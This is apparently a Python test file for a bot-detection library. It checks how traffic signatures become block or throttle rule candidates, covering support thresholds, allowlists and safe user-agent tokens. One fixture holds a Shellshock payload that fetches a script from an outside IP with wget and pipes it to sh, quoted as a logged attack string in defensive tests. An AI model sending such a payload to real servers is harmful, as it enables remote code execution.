"""Signature stats -> rule candidates: support, distinct IPs, bound, good-bot/human/allowlist overlap, safe matches."""

from __future__ import annotations

import ipaddress
from dataclasses import replace

import pytest

from botguard.catalog import load_catalog
from botguard.config import Policy
from botguard.model.signatures import CandidateRules, SignatureBook, welcome_agents, wilson_lower
from botguard.model.table import StringTable

NOVA = "Mozilla/5.0 (compatible; NovaScrape/1.0)"
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36"


def _feed(
    book: SignatureBook,
    n: int,
    *,
    keys: tuple[str, ...] = ("ua_tok=novascrape",),
    ips: int = 5,
    ua: str = NOVA,
    score: float = 0.99,
    label: str | None = "robots",
    net: str | None = None,
    now: float = 100.0,
    batch: int = 50,
    humanlike: bool = False,
) -> list[str]:
    """n requests of one signature, round-robin over ``ips`` addresses in distinct /24s (or one)."""
    fresh = []
    for start in range(0, n, batch):
        events, scores, xs = [], [], []
        for i in range(start, min(n, start + batch)):
            k = i % ips
            ip = f"65.108.{k}.9" if net is None else f"{net}.{k + 1}"
            events.append((keys, ip, ip.rsplit(".", 1)[0], ua, label, label == "human" or humanlike))
            scores.append(score)
            xs.append({keys[0]: 1.0})
        fresh += book.add(events, scores, xs, now + start)
    return fresh


def test_wilson_bound_is_below_the_share_and_grows_with_support() -> None:
    assert wilson_lower(0, 0) == 0.0
    assert wilson_lower(95, 100) < 0.95 < wilson_lower(990, 1000) < 0.99
    assert wilson_lower(100, 100) < wilson_lower(1000, 1000) < 1.0


def test_support_threshold_is_exact_and_requests_to_candidate_honest() -> None:
    """199 high-scoring requests are not enough; the 200th makes the candidate, and it says 200."""
    book = SignatureBook()
    assert _feed(book, 199, batch=199) == []
    assert book.candidates() == []
    assert _feed(book, 1, now=500.0) == ["ua_tok=novascrape"]
    (cand,) = book.candidates()
    assert (cand.signature, cand.match_kind, cand.match_value, cand.action) == (
        "ua_tok=novascrape",
        "ua_pattern",
        "novascrape",
        "block",
    )
    assert cand.requests_to_candidate == 200 and cand.support_requests == 200 and cand.support_ips == 5
    assert cand.proposed_at == 500.0 and cand.first_seen == 100.0
    assert dict(cand.label_counts) == {"robots": 200}
    assert cand.bad_rate_lcb >= 0.95


def test_a_network_key_needs_three_distinct_ips() -> None:
    book = SignatureBook()
    _feed(book, 400, ips=2, keys=("asn=24940",))
    assert book.candidates() == []
    _feed(book, 3, ips=3, keys=("asn=24940",), now=900.0)
    assert [c.signature for c in book.candidates()] == ["asn=24940"]


def test_a_bot_name_needs_two_distinct_ips() -> None:
    """A name the agent gives itself as a bot's, shared by a second address, is a campaign's:
    proposed at its 200th request, not when a third address comes (hundreds of requests later)."""
    book = SignatureBook()
    _feed(book, 400, ips=1)
    assert book.candidates() == []
    fresh = _feed(book, 200, ips=2, now=900.0)
    (cand,) = book.candidates()
    assert fresh == ["ua_tok=novascrape"] and cand.support_ips == 2
    assert cand.requests_to_candidate == 450  # the batch that brought the second address
    strict = SignatureBook(CandidateRules(min_ips_named=3))
    _feed(strict, 400, ips=2)
    assert strict.candidates() == []


def test_a_single_slash24_needs_more_support() -> None:
    """IPs all in one /24 count as one network: 500 requests, not 200."""
    book = SignatureBook()
    _feed(book, 499, net="65.108.12", ips=20, keys=("ip24=65.108.12",))
    assert book.candidates() == []
    _feed(book, 1, net="65.108.12", ips=20, keys=("ip24=65.108.12",), now=2000.0)
    (cand,) = book.candidates()
    assert (cand.match_kind, cand.match_value) == ("cidr", "65.108.12.0/24")


def test_low_share_of_high_scores_is_no_candidate() -> None:
    book = SignatureBook()
    _feed(book, 300, score=0.99)
    _feed(book, 30, score=0.2, now=700.0)  # the recent share drops under the bound
    assert book.candidates() == []


def test_one_verified_good_bot_request_blocks_a_candidate_for_good() -> None:
    book = SignatureBook()
    _feed(book, 1, label="verified")
    _feed(book, 2000, now=300.0)
    assert book.candidates() == []


MONITOR = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"


def _welcome_book() -> SignatureBook:
    return SignatureBook(welcome=lambda agent: agent == MONITOR)


@pytest.mark.parametrize("label", [None, "human"])
def test_one_welcome_service_request_blocks_a_candidate_for_good(label: str | None) -> None:
    book = _welcome_book()
    _feed(book, 1, keys=("asn=24940",), ua=MONITOR, label=label)
    _feed(book, 2000, keys=("asn=24940",), now=300.0)
    assert book.stats["asn=24940"].welcome == 1 and book.candidates() == []


@pytest.mark.parametrize("label", ["spoofer", "robots"])
def test_a_welcome_agent_some_label_calls_unwanted_spares_nothing(label: str) -> None:
    book = _welcome_book()
    _feed(book, 1, keys=("asn=24940",), ua=MONITOR, label=label)
    _feed(book, 2000, keys=("asn=24940",), now=300.0)
    assert [c.signature for c in book.candidates()] == ["asn=24940"]


def test_the_welcome_count_survives_a_snapshot_and_an_older_one_reads_as_none() -> None:
    book = _welcome_book()
    _feed(book, 1, keys=("asn=24940",), ua=MONITOR, label=None)
    strings = StringTable()
    arrays = book.to_arrays(strings)
    copy = _welcome_book()
    copy.load_arrays(arrays, strings.strings)
    assert copy.stats["asn=24940"].welcome == 1
    del arrays["sig_welcome"]
    copy.load_arrays(arrays, strings.strings)
    assert copy.stats["asn=24940"].welcome == 0
    old = book.to_json()
    del old["asn=24940"]["welcome"]
    copy.load_json(old)
    assert copy.stats["asn=24940"].welcome == 0


def test_welcome_agents_are_the_catalogues_services_the_policy_neither_blocks_nor_monitors() -> None:
    spared = welcome_agents(load_catalog(), Policy())
    feed = "Mozilla/5.0 (compatible; inoreader.com; 1 subscribers)"
    assert spared(MONITOR) and spared(feed) and spared("W3C-checklink/4.5 [4.160]")
    assert not any(spared(a) for a in (CHROME, NOVA, "python-requests/2.31", "Go-http-client/1.1", ""))
    assert not welcome_agents(load_catalog(), Policy(monitor_categories=("monitor",)))(MONITOR)
    assert not welcome_agents(load_catalog(), Policy(block_categories=("feed-reader",)))(feed)


def test_human_share_over_a_tenth_of_a_percent_blocks() -> None:
    book = SignatureBook()
    _feed(book, 1, label="human", keys=("asn=24940",))
    _feed(book, 600, keys=("asn=24940",), now=300.0)  # 1 in 601 = 0.17%
    assert book.candidates() == []
    _feed(book, 600, keys=("asn=24940",), now=900.0)  # 1 in 1201 = 0.08%
    (cand,) = book.candidates()
    assert (cand.match_kind, cand.match_value, cand.action) == ("asn", "24940", "throttle")


def test_an_unlabelled_browser_loading_assets_counts_as_human() -> None:
    """A person not labelled yet (a few page assets) in a hosting AS keeps that AS from a candidate."""
    book = SignatureBook()
    _feed(book, 3, keys=("asn=24940",), label=None, humanlike=True)
    _feed(book, 1500, keys=("asn=24940",), now=300.0)
    assert book.candidates() == []
    assert book.stats["asn=24940"].human == 3


@pytest.mark.parametrize(
    "rules",
    [
        CandidateRules(allow_agents=("novascrape",)),
        CandidateRules(allow_agents=("compatible; nova",)),
        CandidateRules(allow_networks=(ipaddress.ip_network("65.108.3.0/24"),)),
    ],
    ids=["agent", "agent-substring", "network"],
)
def test_allowlist_blocks(rules: CandidateRules) -> None:
    book = SignatureBook(rules)
    _feed(book, 500)
    assert book.candidates() == []
    assert SignatureBook(replace(rules, allow_agents=(), allow_networks=())).candidates() == []  # sanity
    plain = SignatureBook()
    _feed(plain, 500)
    assert plain.candidates() != []  # the same traffic without the allowlist qualifies


@pytest.mark.parametrize("token", ["chrome", "mozilla", "safari", "applewebkit", "googlebot", "bot", "x"])
def test_unsafe_ua_tokens_are_refused(token: str) -> None:
    """Tokens of browsers or good bots never become a UA rule, however bad their traffic scores."""
    book = SignatureBook()
    _feed(book, 1000, keys=(f"ua_tok={token}",), ua=CHROME + " googlebot bot x")
    assert book.candidates() == []


def test_token_must_occur_in_the_agents_it_was_seen_in() -> None:
    """A key whose value is not a substring of its agents (normalised away) is not a UA pattern."""
    book = SignatureBook()
    _feed(book, 500, keys=("ua_tok=novascrape",), ua="Mozilla/5.0 (compatible; Other/1.0)")
    assert book.candidates() == []


def test_ua_family_by_asn_cross_is_never_proposed() -> None:
    book = SignatureBook()
    _feed(book, 1000, keys=("ua_fam_x_asn=novascrape|24940",))
    assert book.candidates() == [] and "ua_fam_x_asn=novascrape|24940" in book.stats


def test_stats_expire_and_survive_json() -> None:
    book = SignatureBook(CandidateRules(ttl=50.0))
    _feed(book, 300)
    copy = SignatureBook(CandidateRules(ttl=50.0))
    copy.load_json(book.to_json())
    assert copy.candidates() == book.candidates() != []
    assert book.expire(now=10_000.0) == 1 and len(book) == 0


class _CountedStats(dict):
    """A stats dict that counts walks over its items (an expiry sweep's cost)."""

    walks = 0

    def items(self):  # type: ignore[override]
        type(self).walks += 1
        return super().items()


def test_an_expiry_sweep_with_nothing_due_does_not_walk_the_keys() -> None:
    """A watch sweeps every few micro-batches; a day's keys (ttl a day) are none of them due, and
    walking tens of thousands of them each sweep was a quarter of the replay's time."""
    book = SignatureBook(CandidateRules(ttl=1000.0))
    _feed(book, 100, keys=("ua_tok=a",), now=100.0)
    _feed(book, 100, keys=("ua_tok=b",), now=600.0)
    book.stats = _CountedStats(book.stats)
    _CountedStats.walks = 0
    assert book.expire(now=1000.0) == 0 and book.expire(now=1099.0) == 0
    assert _CountedStats.walks == 0
    assert book.expire(now=1200.0) == 1 and set(book.stats) == {"ua_tok=b"}  # a's last batch: t=150
    assert book.expire(now=1500.0) == 0 and len(book) == 1  # b's last: t=650, not due before 1650
    assert book.expire(now=1700.0) == 1 and len(book) == 0


def test_keys_restored_from_a_snapshot_expire_on_time() -> None:
    """The bound on the oldest key starts over when stats are loaded (JSON or arrays)."""
    book = SignatureBook(CandidateRules(ttl=1000.0))
    _feed(book, 100, keys=("ua_tok=a",), now=100.0)
    copy = SignatureBook(CandidateRules(ttl=1000.0))
    _feed(copy, 100, keys=("ua_tok=late",), now=5000.0)  # a bound from before the load
    copy.load_json(book.to_json())
    assert copy.expire(now=1200.0) == 1 and len(copy) == 0


def test_requests_scored_before_the_model_knew_the_key_do_not_count_in_the_share() -> None:
    """A family's first requests, scored while the scorer had no weight for its key, are support
    (requests, IPs) but not evidence about the key's bad rate; once known, its scores count."""
    book = SignatureBook()
    unknown, known = (lambda key: False), (lambda key: True)
    events = [
        (("ua_tok=novascrape",), f"65.108.{i % 5}.9", f"65.108.{i % 5}", NOVA, "robots", False)
        for i in range(60)
    ]
    xs = [{"ua_tok=novascrape": 1.0}] * 60
    book.add(events, [0.3] * 60, xs, 100.0, known=unknown)  # low scores: the model did not know it yet
    stats = book.stats["ua_tok=novascrape"]
    assert stats.requests == 60 and stats.recent_n == 0 and len(stats.ips) == 5
    book.add(events * 3, [0.99] * 180, xs * 3, 200.0, known=known)
    assert [c.requests_to_candidate for c in book.candidates()] == [240]
    counted = SignatureBook()  # the same scores, all counted: the early low ones sink the bound
    counted.add(events, [0.3] * 60, xs, 100.0)
    counted.add(events * 3, [0.99] * 180, xs * 3, 200.0)
    assert counted.candidates() == []


# -- what a UA candidate may be: a safe product name of every agent it was seen in ---------------

PROSE = (
    "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day "
    "to identify customers' presences on the Internet. If you would like to be excluded from our scans, "
    "please send IP addresses/domains to: scaninfo@paloaltonetworks.com"
)
SHELLSHOCK = r"() { :; }; /bin/bash -c \x22wget http://198.51.100.7/x.sh -O- | sh\x22"  # as nginx logs it
VERSIONED = "Mozilla/5.0 zgrab/0.x v1.1.0 (compatible; scanner)"
HEADLESS = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36"


@pytest.mark.parametrize(
    ("token", "agent"),
    [
        *((word, PROSE) for word in ("the", "space", "global", "company", "searches", "networks", "ipv4",
                                     "palo", "expanse", "scaninfo")),
        ("v1.1.0", VERSIONED),
        ("x22", SHELLSHOCK), ("x22wget", SHELLSHOCK), ("bash", SHELLSHOCK), ("x.sh", SHELLSHOCK),
        ("wget", SHELLSHOCK), ("198.51.100.7", SHELLSHOCK),
        # product names of agents many unrelated clients share (HTTP libraries, app runtimes)
        ("python-requests", "python-requests/2.31.0"), ("go-http-client", "Go-http-client/1.1"),
        ("okhttp", "okhttp/4.9.2"), ("cfnetwork", "BotApp/3.1 CFNetwork/1404.0.5 Darwin/22.3.0"),
        # an automated browser (blocked by address only), names of people's agents a bot took
        ("headlesschrome", HEADLESS), ("weixin", "Weixin/1.0 (+http://evil.example/bot)"),
        ("iphone16", "iPhone16/1.0 (+http://evil.example/bot)"),
        ("evil.example", "Weixin/1.0 (+http://evil.example/bot)"),
    ],
)  # fmt: skip
def test_audit_tokens_are_never_proposed(token: str, agent: str) -> None:
    """The tokens an audit saw proposed on a generated day (prose words, a version, log escapes
    read as text, shell words) and shared agents' names: however bad their traffic, no candidate."""
    book = SignatureBook()
    _feed(book, 1000, keys=(f"ua_tok={token}",), ua=agent)
    assert book.candidates() == []


@pytest.mark.parametrize(
    ("token", "agent"),
    [
        ("evilbot", "EvilBot/1.0"),
        ("novascrape", "novascrape/2.0 (+https://nova.example/about)"),
        ("crawl.novascrape.io", "Scanner/1.0 (+https://crawl.novascrape.io/about)"),  # a bot URL's host
        ("paloaltonetworks.com", PROSE),  # a contact address's domain
        (
            "bytedance.com",
            "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile "
            "Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)",
        ),  # in a browser's agent
    ],
)
def test_product_names_are_proposed(token: str, agent: str) -> None:
    book = SignatureBook()
    _feed(book, 500, keys=(f"ua_tok={token}",), ua=agent)
    assert [(c.match_kind, c.match_value) for c in book.candidates()] == [("ua_pattern", token)]


def test_one_candidate_per_agent_the_most_specific() -> None:
    """A family's name, its URL host and its contact domain qualify together: one candidate, the
    most specific (longest); the family's network candidates are kept."""
    agent = "Mozilla/5.0 (compatible; NovaScrape/1.0; +http://novascrape.example/bot; ops@nova.example)"
    keys = ("ua_fam=novascrape", "ua_tok=novascrape", "ua_tok=novascrape.example", "ua_tok=nova.example",
            "ip24=65.108.0")  # fmt: skip
    book = SignatureBook()
    _feed(book, 600, keys=keys, ua=agent)
    assert sorted(c.signature for c in book.candidates()) == ["ip24=65.108.0", "ua_tok=novascrape.example"]


def test_a_listed_candidate_is_not_replaced_by_a_later_twin() -> None:
    """A UA candidate proposed first stays the one listed when a more specific twin qualifies later."""
    agent = "Mozilla/5.0 (compatible; NovaScrape/1.0; +http://novascrape.example/bot)"
    book = SignatureBook()
    _feed(book, 300, keys=("ua_tok=novascrape",), ua=agent)
    _feed(book, 300, keys=("ua_tok=novascrape.example", "ua_tok=novascrape"), ua=agent, now=1000.0)
    assert [c.signature for c in book.candidates()] == ["ua_tok=novascrape"]


def test_different_agents_keep_their_own_candidates() -> None:
    """Twins are judged by the agents they cover: two families keep one candidate each."""
    book = SignatureBook()
    _feed(book, 300, keys=("ua_tok=novascrape",), ua="NovaScrape/1.0")
    _feed(book, 300, keys=("ua_tok=evilbot",), ua="EvilBot/1.0 (+https://novascrape.example)", now=1000.0)
    assert sorted(c.match_value for c in book.candidates()) == ["evilbot", "novascrape"]
